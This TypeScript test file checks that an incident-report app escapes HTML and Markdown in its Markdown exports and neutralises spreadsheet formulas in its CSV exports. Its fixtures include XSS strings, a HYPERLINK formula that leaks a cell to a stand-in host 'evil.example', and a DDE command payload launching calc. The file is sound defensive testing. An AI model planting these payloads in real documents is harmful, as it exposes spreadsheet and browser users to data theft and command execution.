/**
 * Regression tests of user text in exports: the incident report in Markdown escapes HTML,
 * Markdown control characters and block-starting line breaks; the gap CSV neutralises formulas.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createWorld, ENGINES, readExample, readIncidentExample } from './harness.ts';
import type { World } from './harness.ts';

const NOW = '2026-11-23T09:00:00+01:00';

describe.each(ENGINES)('user text in reports and exports (%s)', (engine) => {
  let w: World;
  beforeAll(async () => {
    w = await createWorld(engine, { now: () => new Date('2026-11-23T10:00:00Z') });
  });
  afterAll(() => w.dispose());

  it('escapes the incident name, dossier values and references in the Markdown report', async () => {
    const org = `/api/v1/orgs/${w.orgA.id}`;
    const c = readIncidentExample('hospital-ransomware.yaml');
    c.name = 'Pump down\n# Injected heading <script>alert(1)</script>';
    const created = await w.json<{ id: string; version: number }>(w.as.editorA, 'POST', `${org}/incidents`, { title: 'Hostile', case: c });
    expect(created.status).toBe(201);
    const put = await w.json<{ version: number }>(w.as.editorA, 'PUT', `${org}/incidents/${created.body.id}/dossier`, {
      values: { 'likely-consequences': 'Phishing\n- injected list item\n> injected quote\n<img src=x onerror=alert(1)>\n```\nfence' },
      expectedVersion: created.body.version,
    });
    expect(put.status).toBe(200);
    const md = await (await w.call(w.as.viewerA, 'GET', `${org}/incidents/${created.body.id}/report?regime=gdpr&format=markdown&now=${encodeURIComponent(NOW)}`)).text();
    const lines = md.split('\n');
    // The name stays on the title line; its '#' and tags are escaped.
    expect(lines[0]).toBe('# GDPR report: Pump down \\# Injected heading \\<script\\>alert(1)\\</script\\>');
    expect(lines.filter((l) => l.startsWith('# '))).toHaveLength(1);
    // No raw tag anywhere, and no line of the value opens a list, quote or fence.
    expect(md).not.toMatch(/(^|[^\\])<(script|img)/m);
    expect(lines).toContain('\\- injected list item\\');
    expect(lines).toContain('\\> injected quote\\');
    expect(lines).toContain('\\`\\`\\`\\');
    expect(lines.some((l) => /^(- injected|> injected|```)/.test(l))).toBe(false);
  });

  it('prefixes CSV cells a spreadsheet would run as a formula, and quotes them', async () => {
    const profile = readExample('class-iia-glucose-meter.yaml');
    const gap = await w.json<{ checklist: { items: { control: string }[] }[] }>(w.as.editorA, 'POST', '/api/v1/gap', { profile, asOf: '2026-11-23' });
    const [a, b, c, d] = gap.body.checklist.flatMap((g) => g.items.map((i) => i.control));
    const assessment = {
      schema: 'iomt-gap-assessment/1',
      product: 'GlucoLink system',
      profile: 'class-iia-glucose-meter',
      asOf: '2026-11-23',
      controls: {
        [a!]: { status: 'partial', owner: '=HYPERLINK("http://evil.example/?x="&A1,"click")', notes: '+cmd|" /C calc"!A0' },
        [b!]: { status: 'partial', owner: '-2+3', notes: '@SUM(1+1)' },
        [c!]: { status: 'partial', owner: '\tTabbed', notes: '\r=1+1' },
        [d!]: { status: 'partial', owner: 'Plain owner', notes: 'a - b = c' },
      },
    };
    const r = await w.call(w.as.editorA, 'POST', '/api/v1/gap/export', { profile, asOf: '2026-11-23', assessment, format: 'csv' });
    const text = await r.text();
    expect(r.status, text.slice(0, 300)).toBe(200);
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`);
    expect(text).toContain(`"'+cmd|"" /C calc""!A0"`);
    expect(text).toContain(`"'-2+3"`);
    expect(text).toContain(`"'@SUM(1+1)"`);
    expect(text).toContain(`"'\tTabbed"`);
    expect(text).toContain(`"'\r=1+1"`);
    expect(text).toContain(',Plain owner,');
    expect(text).toContain(',a - b = c');
    // Every cell that starts with a formula character is quoted and starts with the apostrophe.
    for (const cell of text.split(/,|\r\n/)) expect(cell).not.toMatch(/^[=+@]/);
  });
});
